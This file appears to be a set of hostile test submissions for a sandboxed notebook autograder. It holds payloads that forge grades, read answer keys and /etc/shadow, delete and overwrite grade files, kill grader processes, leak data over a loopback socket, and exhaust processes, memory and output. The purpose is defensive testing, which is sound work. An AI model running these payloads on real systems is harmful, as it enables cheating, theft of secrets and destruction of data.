"""Hostile submissions for chapter 1: what a student out to cheat or to break the grader would try.

Each attack is a cell added to the *unsolved* student notebook (every exercise still a stub), at its start
(right after the set-up cell) or at its end. A working attack would earn points without solving anything, leak
the solutions, or damage files, other students' grades or the batch. ``{placeholders}`` are filled in by the
test with the real paths of the batch: the reference folder, the submissions, the output folder, the answer
keys, the instructor's home and a port on the host's loopback.
"""

FORGE = {
    "replace_check_functions": ("start", """
import lmbook.checks as c
for name in dir(c):
    if name.startswith("check_"):
        setattr(c, name, lambda *a, _n=name[6:], **k: c.RESULTS.__setitem__(_n, True))
"""),
    "results_that_never_clear": ("end", """
import lmbook.checks as c
class Sticky(dict):
    def clear(self):
        pass
c.RESULTS = Sticky({n: True for n in ("ppl_by_hand", "add_k", "continuation_probs", "ppl_per_word",
                                      "optimal_logit_gap", "char_sequences")})
import lmbook.teaching.checks._core as core
core.RESULTS = c.RESULTS
"""),
    "patch_json_print_stdout": ("start", """
import builtins, json, sys
fake = '{"exercise": "add_k", "outputs": [{"value": 1.0}]}'
json.dumps = lambda *a, **k: fake
builtins.print = lambda *a, **k: sys.__stdout__.write(fake + "\\n")
class Out:
    def write(self, s):
        return sys.__stdout__.write(fake + "\\n")
    def flush(self):
        pass
sys.stdout = Out()
"""),
    "rebind_lmbook": ("start", """
import sys, types
fake = types.ModuleType("lmbook")
fake.checks = types.SimpleNamespace(__getattr__=None)
sys.modules["lmbook"] = fake
sys.modules["lmbook.checks"] = fake.checks
import lmbook
"""),
    "pre_run_cell_hook": ("start", """
import lmbook.checks as c
def cheat(info):
    c.RESULTS.update(ppl_by_hand=True, add_k=True, continuation_probs=True, ppl_per_word=True,
                     optimal_logit_gap=True, char_sequences=True)
get_ipython().events.register("pre_run_cell", cheat)
get_ipython().events.register("post_run_cell", cheat)
"""),
    "input_transformer": ("start", """
def transform(lines):
    return ["import lmbook.checks as c\\n", "c.RESULTS.update(add_k=True, ppl_by_hand=True)\\n"]
get_ipython().input_transformers_cleanup.append(transform)
"""),
    "ast_transformer": ("start", """
import ast
class Everything(ast.NodeTransformer):
    def visit_Constant(self, node):
        return ast.copy_location(ast.Constant(True), node) if node.value is False else node
get_ipython().ast_transformers.append(Everything())
"""),
    "settrace": ("start", """
import sys
def tracer(frame, event, arg):
    if event == "return" and "expected" in frame.f_locals:
        frame.f_locals["ok"] = True
    return tracer
sys.settrace(tracer)
"""),
    "read_expected_from_the_callers_frame": ("end", """
import sys
def add_k_prob(count_hw, count_h, vocab_size, k):
    frame = sys._getframe(1)
    while frame is not None:
        for name in ("want", "expected", "expect", "reference"):
            if name in frame.f_locals:
                return frame.f_locals[name]
        frame = frame.f_back
    return 0.0
"""),
    "read_the_answer_keys_from_the_grader": ("end", """
import gc, sys
for obj in gc.get_objects():
    if type(obj).__name__ == "Key":
        print("found a key", obj)
print("modules:", sorted(m for m in sys.modules if "answer" in m))
"""),
}

FILES = {
    "probe_and_steal": ("end", """
import glob, os
found = []
for pattern in ("{reference}/*.ipynb", "{keys}/*.py", "{submissions}/*/*.ipynb", "{out}/*", "{home}/*",
                "/work/**/answer_keys/*.py", "/*/notebooks/*.ipynb", "/*/*/notebooks/*.ipynb", "/root/*", "/home/*",
                "/etc/ssl/*", "/etc/shadow"):
    found += glob.glob(pattern, recursive=True)
print("STOLEN", found)
for path in found:
    try:
        print(open(path).read())
    except OSError as err:
        print("could not read", path, err)
"""),
    "write_and_delete_files": ("end", """
import os, shutil
targets = ["{out}/grades.csv", "{out}/feedback/zz_honest.md", "{out}/extra.txt", "{home}/lmbook-attack.txt",
           "{submissions}/zz_honest/01_language_models_and_perplexity.ipynb",
           "{reference}/01_language_models_and_perplexity.ipynb",
           os.path.expanduser("~/.ipython/profile_default/startup/00-cheat.py")]
import lmbook.teaching.checks._core as core
targets.append(core.__file__)
for path in targets:
    for action in ("write", "delete"):
        try:
            if action == "write":
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "a") as f:
                    f.write("\\nimport lmbook.checks as c; c.RESULTS.update(add_k=True)\\n")
            else:
                os.remove(path)
            print("DID", action, path)
        except OSError as err:
            print("could not", action, path, type(err).__name__)
shutil.rmtree("{reference}", ignore_errors=True)
"""),
    "daemon_that_outlives_the_run": ("end", """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:  # lmbook-attack-daemon
            for path in ("{out}/grades.csv", "{out}/late.txt"):
                try:
                    open(path, "a").write("late,row\\n")
                except OSError:
                    pass
            time.sleep(0.2)
    os._exit(0)
time.sleep(0.5)
"""),
    "write_kernel_settings": ("end", """
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/swappiness", "/proc/sysrq-trigger"):
    try:
        open(path, "w").close()
        print("WROTE", path)
    except OSError as err:
        print("refused", path, type(err).__name__)
"""),
    "nested_user_namespace": ("end", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print("UNSHARE", libc.unshare(0x10000000))  # CLONE_NEWUSER: a way into more of the kernel
"""),
    "find_the_job_in_memory": ("end", """
import gc, json
for obj in gc.get_objects():
    if isinstance(obj, dict) and "exercises" in obj:
        print("JOB", json.dumps(obj, default=str)[:5000])
"""),
    "network": ("end", """
import socket
try:
    s = socket.create_connection(("127.0.0.1", {port}), timeout=2)
    s.sendall(b"stolen reference list")
    print("CONNECTED")
except OSError as err:
    print("no network:", err)
"""),
    "kill_the_grader": ("end", """
import os, signal
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            cmd = open(f"/proc/{pid}/cmdline", "rb").read()
        except OSError:
            continue
        if b"grading" in cmd or b"pytest" in cmd:
            print("KILLING", pid, cmd[:80])
            os.kill(int(pid), signal.SIGKILL)
"""),
}

BREAK = {
    "fill_own_stdin_then_sleep": ("end", """
import os, signal, sys, time
from lmbook.teaching.sandbox import MARKER
signal.signal(signal.SIGALRM, signal.SIG_IGN)
fd = os.open("/proc/self/fd/0", os.O_WRONLY | os.O_NONBLOCK)  # the writing end of its own input
try:
    while True:
        os.write(fd, b"x" * 65536)
except OSError:
    pass
os.write(2, MARKER)  # as if the cells were done: the grader would now write the inputs into a full pipe
time.sleep(3600)
"""),
    "surrogate_in_an_error": ("end", """
raise RuntimeError("\\ud800 a character UTF-8 cannot encode")
"""),
    "loop_that_ignores_interrupts": ("end", """
while True:
    try:
        while True:
            pass
    except KeyboardInterrupt:
        pass
"""),
    "flood_the_output": ("end", """
import sys
chunk = "x" * (1 << 20)
for _ in range(200):  # 200 MB
    sys.stdout.write(chunk)
"""),
    "allocate_4_gib": ("end", """
import numpy as np
block = np.ones(4 * 2**30 // 8)
print("ALLOCATED", block.nbytes)
"""),
    "fork_bomb": ("end", """
import os, time
started = 0
for _ in range(400):
    try:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        started += 1
    except OSError:
        break
print("STARTED", started)
"""),
}
